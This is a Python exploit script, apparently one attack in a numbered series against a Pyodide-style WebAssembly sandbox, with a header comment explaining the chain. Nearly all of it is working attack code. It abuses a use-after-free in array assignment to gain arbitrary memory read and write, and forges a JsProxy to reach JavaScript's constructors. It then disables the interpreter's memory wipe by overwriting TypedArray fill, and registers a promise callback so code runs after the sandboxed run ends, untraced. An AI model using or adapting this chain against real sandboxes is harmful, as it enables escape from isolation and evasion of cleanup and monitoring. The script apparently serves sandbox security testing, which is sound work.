# Attack 77: from attack 74's memory to Python run after the program's run is over, untraced, by
# undoing the interpreter's wipe (atkd). The realm lock (realm-lockdown.ts) freezes Object.prototype
# and fixes Function.prototype's call, apply and bind, and nothing else: a typed array (PyProxy's
# toJs copies a list's bytes into a Uint8Array) hands the program %TypedArray%.prototype, whose
# fill the worker's wipe called as it was at the time (Engine.retire: memory.fill(0, at, end), a
# mebibyte at a time; the length and buffer getters too). Made Function.prototype (a function that
# does nothing), the wipe left the interpreter whole, and a promise's then (Promise from a
# function's PyProxy's callPromising, rejected: no stack switching here) called the program's
# Python back once the run had ended, with JavaScript in hand and nothing tracing it.
# Each step prints "armed: ..." once set up for after the run, "blocked: ..." when it fails.
import array

ba = bytearray(64)


def write32(addr, value):
    a = array.array("i", [0]) * (addr // 4 + 1)

    class Evil:
        def __index__(self):
            del a[:]
            return value if value < 2**31 else value - 2**32

    a[addr // 4] = Evil()


try:
    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba
    print("memory:", hex(len(mem)))
except Exception as error:
    print("blocked: memory,", type(error).__name__)
    raise SystemExit(0)


def r32(a):
    return int.from_bytes(mem[a:a + 4], "little")


def w32(a, v):
    mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


def walk(c, seen):
    for s in type.__subclasses__(c):
        if s not in seen:
            seen.add(s)
            walk(s, seen)


seen = set()
walk(object, seen)
JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
kept = []


def fake_proxy(ref):
    buf = bytearray(128)
    p = r32(id(buf) + 16)
    w32(p, 0x100000)
    w32(p + 4, id(JsProxy))
    w32(p + 36, ref)
    holder = [None]
    w32(r32(id(holder) + 12), p)
    kept.append(buf)
    return holder[0]


Object = fake_proxy(12).constructor
Function = Object.constructor
Array = Object.values([True]).constructor
bind_call = Function.prototype.call.bind
try:
    # A list's PyProxy, made JavaScript-side (an attribute's, not a borrowed argument's), and toJs on it.
    holder = Object()
    holder.l = [b"x"]
    protos = Object.values(holder).map(Object.getPrototypeOf).map(Object.getPrototypeOf).map(Object.getOwnPropertyDescriptors)
    toJs = Object.getOwnPropertyDescriptor(protos, "0").value.toJs.value
    copied = Object.getOwnPropertyDescriptor(Object.values(holder).map(bind_call(toJs)), "0").value
    TypedArray = Object.getPrototypeOf(Object.getPrototypeOf(Object.getOwnPropertyDescriptor(copied, "0").value))
    TypedArray.fill = Function.prototype
    print("armed: %TypedArray%.prototype.fill does nothing now")
except Exception as error:
    print("blocked: %TypedArray%.prototype.fill,", type(error).__name__, str(error).split("\n")[0][:120])
    raise SystemExit(0)


def later(*_, Object=Object):
    # Called by the promise's job after the run (the program's globals are cleared by then).
    Object.keys("called back after the run")


try:
    fholder = Object()
    fholder.f = later
    fprotos = Object.values(fholder).map(Object.getPrototypeOf).map(Object.getOwnPropertyDescriptors)
    callPromising = Object.getOwnPropertyDescriptor(fprotos, "0").value.callPromising.value
    rejected = Object.getOwnPropertyDescriptor(Object.values(fholder).map(bind_call(callPromising)), "0").value
    then = Object.getOwnPropertyDescriptor(rejected.constructor.prototype, "then").value
    args = Object.values(fholder)
    args.unshift(rejected, None)  # then.call(rejected, undefined, later), its result kept JavaScript-side
    Array.of(True).map(Function.prototype.bind.apply(then, args))
    print("armed: a promise's then, for after the run")
except Exception as error:
    print("blocked: a promise's then,", type(error).__name__, str(error).split("\n")[0][:120])
